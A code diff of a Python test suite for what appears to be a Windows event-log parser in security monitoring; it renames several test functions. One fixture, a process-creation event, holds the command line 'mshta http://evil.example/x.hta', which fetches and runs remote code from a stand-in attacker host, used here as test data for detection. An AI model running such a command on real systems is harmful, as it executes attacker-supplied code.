@@ -183,7 +183,7 @@ def test_who_logged_on_from_where(event_id, data, device_ip, name, user, action)
         (4688, SECURITY, {"CommandLine": "mshta http://evil.example/x.hta"}, {"url": "http://evil.example/x.hta", "device_name": "SRV-01"}),
     ],
 )  # fmt: skip
-def test_other_events(event_id, provider, data, wanted):
+def test_each_event_gives_its_own_fields(event_id, provider, data, wanted):
     found = event(event_id, provider, **data)
     assert {name: getattr(found, name) for name in wanted} == wanted
 
@@ -193,7 +193,7 @@ def test_the_address_of_a_vpn_client():
     assert (found.kind, found.device_ip, found.user) == (EventKind.LOGON, "10.20.9.5", "UNIT\\minh.tran")
 
 
-def test_answers():
+def test_answers_of_a_question_are_its_addresses():
     assert answers_of("type:  5 cdn.evil.example;::ffff:203.0.113.7;2001:db8::7;type:  16 text a;-;;bad") == (
         "cdn.evil.example",
         "203.0.113.7",
@@ -208,11 +208,11 @@ def test_answers():
     [("minh.tran", "minh.tran"), ("UNIT\\minh.tran", "UNIT\\minh.tran"), ("\\minh", "minh"), ("NT AUTHORITY\\SYSTEM", None), ("AUTORITE NT\\Système", None),
      ("PC$", None), ("PC$@UNIT.EXAMPLE", None), ("-", None), (None, None), ("Window Manager\\DWM-7", None), ("a" * 300, None)],
 )  # fmt: skip
-def test_users(name, user):
+def test_an_account_is_a_user_or_none(name, user):
     assert user_of(name) == user
 
 
-def test_machines():
+def test_an_account_is_a_machine_or_none():
     assert [machine_of(name) for name in ("PC$", "UNIT\\PC$", "PC$@UNIT.EXAMPLE", "minh", "$", None)] == [
         "PC",
         "PC",
@@ -267,7 +267,7 @@ def encoded(command: str) -> str:
         ("", ()),
     ],
 )
-def test_mentions(text, found):
+def test_values_in_a_script_are_mentioned(text, found):
     assert mentions(text) == found
 
 
